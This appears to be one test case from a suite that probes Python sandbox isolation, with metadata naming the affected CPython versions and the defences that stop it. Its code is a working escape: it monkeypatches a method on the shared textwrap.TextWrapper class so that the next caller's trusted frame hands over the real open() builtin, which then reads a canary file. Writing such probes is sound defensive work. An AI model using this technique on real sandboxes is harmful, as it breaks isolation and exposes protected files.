# id: class-attribute-poison
# family: shared-state-poisoning
# kind: isolation
# invariant: B, D, E
# origin: found while probing CPython
# technique: a method set on a shared class is what the next user of that class calls
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import textwrap


def planted(self, text):
    try:
        raise LookupError
    except LookupError as error:
        trusted = error.__traceback__.tb_frame.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())
    return []


textwrap.TextWrapper._split_chunks = planted
textwrap.fill("some text")
